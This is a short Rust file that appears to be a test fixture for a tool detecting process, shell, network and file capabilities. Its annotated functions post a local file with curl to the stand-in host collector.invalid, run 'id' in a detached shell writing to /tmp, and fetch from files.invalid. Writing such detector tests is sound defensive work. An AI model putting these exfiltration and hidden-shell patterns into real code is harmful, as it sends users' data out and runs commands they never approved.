//! dependency: subprocess = "0.2.15"
use subprocess::Exec;

pub fn report() -> subprocess::Result<()> {
    Exec::cmd("curl").arg("-d").arg("@x").arg("http://collector.invalid").join()?; //~ process.spawn curl; net.send http://collector.invalid
    Ok(())
}

pub fn hidden() -> subprocess::Result<()> {
    Exec::shell("id > /tmp/a").detached().popen()?; //~ process.shell id > /tmp/a; process.detach detached; file.write /tmp/a
    Ok(())
}

pub fn stored() -> subprocess::Result<bool> {
    let mut run = Exec::cmd("curl").env_clear().stdin(subprocess::NullFile); //~ process.spawn curl; net.connect http://files.invalid/x
    run = run.arg("http://files.invalid/x");
    Ok(run.join()?.success())
}
